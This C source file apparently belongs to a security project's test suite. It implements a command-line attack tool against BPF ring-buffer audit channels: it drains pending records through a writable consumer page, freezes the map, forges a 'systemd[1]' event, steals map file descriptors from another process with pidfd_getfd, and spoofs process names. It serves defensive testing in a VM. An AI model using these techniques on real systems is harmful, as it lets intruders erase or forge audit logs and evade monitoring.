// SPDX-License-Identifier: GPL-2.0
/*
 * ring.c - `ratchet-ring CMD ...`: the attacks on an audit channel (issue
 * 18), for tests/vm/attacks/event-log.sh, in a test VM only. A naive
 * channel is a BPF ring buffer; whoever gets an fd to it can drain it
 * (move the consumer position), freeze it (no reader can map it again)
 * or write into it from a program of its own. ratchet's event log gives
 * nobody an fd (bpf/audit.h, bpf/bpfself.h).
 *
 *   naive               load, attach and pin (/sys/fs/bpf/ring) a dev-mem
 *                       refusal that reports in a ring buffer
 *   clean               unpin it (the link goes with the pin)
 *   read MAP            read what waits in the ring; prints "records=N forged=M"
 *   drain MAP           move the consumer position to the producer's
 *   freeze MAP          BPF_MAP_FREEZE
 *   forge MAP           a syscall program of this tool writes "systemd[1]"
 *   steal PID           every fd of PID (pidfd_getfd): which are BPF maps
 *   named NAME PATH     open PATH with comm set to NAME
 * MAP is a pin path or id:N. Exit 0 done, 1 refused or hidden, 2 other.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>
#include "attack-ring.skel.h"

#define DIR_ "/sys/fs/bpf/ring"

static int fail(int err, const char *what)
{
	printf("%s: %s\n", what, strerror(err));
	return err == EPERM || err == EACCES || err == ENOENT ? 1 : 2;
}

static int map_fd(const char *m)
{
	if (!strncmp(m, "id:", 3))
		return bpf_map_get_fd_by_id((__u32)atoi(m + 3));
	return bpf_obj_get(m);
}

static int dev_mem_value(void)
{
	struct btf *btf = btf__load_vmlinux_btf();
	const struct btf_enum *e;
	const struct btf_type *t;
	int id, i, v = -1;

	id = btf ? btf__find_by_name_kind(btf, "lockdown_reason", BTF_KIND_ENUM)
		 : -1;
	t = id > 0 ? btf__type_by_id(btf, id) : NULL;
	for (i = 0, e = t ? btf_enum(t) : NULL; t && i < btf_vlen(t); i++, e++)
		if (!strcmp(btf__name_by_offset(btf, e->name_off),
			    "LOCKDOWN_DEV_MEM"))
			v = e->val;
	btf__free(btf);
	return v;
}

static int cmd_naive(void)
{
	struct attack_ring *r = attack_ring__open();
	struct bpf_link *l;

	if (!r)
		return fail(errno, "naive: open");
	r->rodata->dev_mem = dev_mem_value();
	bpf_program__set_autoload(r->progs.ring_forge, false);
	if (attack_ring__load(r))
		return fail(errno, "naive: load");
	if (!(l = bpf_program__attach(r->progs.ring_locked_down)))
		return fail(errno, "naive: attach");
	mkdir(DIR_, 0700);
	if (bpf_link__pin(l, DIR_ "/link") ||
	    bpf_map__pin(r->maps.events, DIR_ "/events"))
		return fail(errno, "naive: pin");
	printf("naive: dev-mem refused, reported in %s/events\n", DIR_);
	return 0;
}

static int cmd_clean(void)
{
	unlink(DIR_ "/link");
	unlink(DIR_ "/events");
	rmdir(DIR_);
	printf("clean: unpinned\n");
	return 0;
}

struct tally {
	int records, forged;
};

static int on_record(void *ctx, void *data, size_t len)
{
	struct tally *t = ctx;
	const __u32 *e = data;

	t->records++;
	t->forged += len >= 8 && e[1];
	return 0;
}

static int cmd_read(const char *m)
{
	struct tally t = { 0 };
	struct ring_buffer *rb;
	int fd = map_fd(m);

	if (fd < 0)
		return fail(errno, "read: an fd to the map");
	if (!(rb = ring_buffer__new(fd, on_record, &t, NULL)))
		return fail(errno, "read: mapping the ring");
	ring_buffer__consume(rb);
	ring_buffer__free(rb);
	printf("records=%d forged=%d\n", t.records, t.forged);
	return 0;
}

/* The consumer page is writable to whoever maps the ring with a writable
 * fd (ringbuf_map_mmap_kern(), kernel/bpf/ringbuf.c, 6.1 to 7.2). */
static int cmd_drain(const char *m)
{
	long page = sysconf(_SC_PAGESIZE);
	volatile unsigned long *cons, *prod;
	int fd = map_fd(m);

	if (fd < 0)
		return fail(errno, "drain: an fd to the map");
	cons = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (cons == MAP_FAILED)
		return fail(errno, "drain: mapping the consumer page");
	prod = mmap(NULL, page, PROT_READ, MAP_SHARED, fd, page);
	if (prod == MAP_FAILED)
		return fail(errno, "drain: mapping the producer page");
	printf("drain: consumer %lu -> %lu\n", *cons, *prod);
	*cons = *prod;
	return 0;
}

static int cmd_freeze(const char *m)
{
	int fd = map_fd(m);

	if (fd < 0)
		return fail(errno, "freeze: an fd to the map");
	if (bpf_map_freeze(fd))
		return fail(errno, "freeze");
	printf("freeze: frozen; no writable mapping of it can be made now\n");
	return 0;
}

static int cmd_forge(const char *m)
{
	LIBBPF_OPTS(bpf_test_run_opts, o);
	struct attack_ring *r = attack_ring__open();
	int fd = map_fd(m);

	if (fd < 0)
		return fail(errno, "forge: an fd to the map");
	if (!r || bpf_map__reuse_fd(r->maps.events, fd))
		return fail(errno, "forge: giving the map to ring_forge");
	bpf_program__set_autoload(r->progs.ring_locked_down, false);
	if (attack_ring__load(r))
		return fail(errno, "forge: loading ring_forge");
	if (bpf_prog_test_run_opts(bpf_program__fd(r->progs.ring_forge), &o) ||
	    o.retval)
		return fail(errno ?: EIO, "forge: running ring_forge");
	printf("forge: wrote an event of systemd[1]\n");
	return 0;
}

/* What a running reader holds that another process can take: each of its
 * fds, taken with pidfd_getfd(2), that is a BPF map ("anon_inode:bpf-map"). */
static int cmd_steal(int pid)
{
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0), maps = 0, fd;
	char dir[64], link[300], what[64];
	struct dirent *d;
	ssize_t n;
	DIR *fds;

	snprintf(dir, sizeof(dir), "/proc/%d/fd", pid);
	if (pfd < 0 || !(fds = opendir(dir)))
		return fail(errno, "steal: pidfd_open");
	while ((d = readdir(fds))) {
		if (d->d_name[0] == '.')
			continue;
		snprintf(link, sizeof(link), "%s/%.16s", dir, d->d_name);
		n = readlink(link, what, sizeof(what) - 1);
		what[n > 0 ? n : 0] = '\0';
		if (strcmp(what, "anon_inode:bpf-map"))
			continue;
		fd = (int)syscall(SYS_pidfd_getfd, pfd, atoi(d->d_name), 0);
		printf("steal: fd %s is a map: %s\n", d->d_name,
		       fd >= 0 ? "taken" : strerror(errno));
		maps += fd >= 0;
		if (fd >= 0)
			close(fd);
	}
	closedir(fds);
	printf("steal: %d map fds taken from %d\n", maps, pid);
	return 0;
}

static int cmd_named(const char *name, const char *path)
{
	int fd;

	prctl(PR_SET_NAME, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	printf("named: %s opened %s: %s (pid %d)\n", name, path,
	       fd >= 0 ? "allowed" : strerror(errno), getpid());
	return fd >= 0 ? 0 : 1;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(c, "naive"))
		return cmd_naive();
	if (!strcmp(c, "clean"))
		return cmd_clean();
	if (argc == 3 && !strcmp(c, "read"))
		return cmd_read(argv[2]);
	if (argc == 3 && !strcmp(c, "drain"))
		return cmd_drain(argv[2]);
	if (argc == 3 && !strcmp(c, "freeze"))
		return cmd_freeze(argv[2]);
	if (argc == 3 && !strcmp(c, "forge"))
		return cmd_forge(argv[2]);
	if (argc == 3 && !strcmp(c, "steal"))
		return cmd_steal(atoi(argv[2]));
	if (argc == 4 && !strcmp(c, "named"))
		return cmd_named(argv[2], argv[3]);
	fprintf(stderr, "usage: ratchet-ring naive|clean|read MAP|drain MAP|"
			"freeze MAP|forge MAP|steal PID|named NAME PATH\n");
	return 2;
}
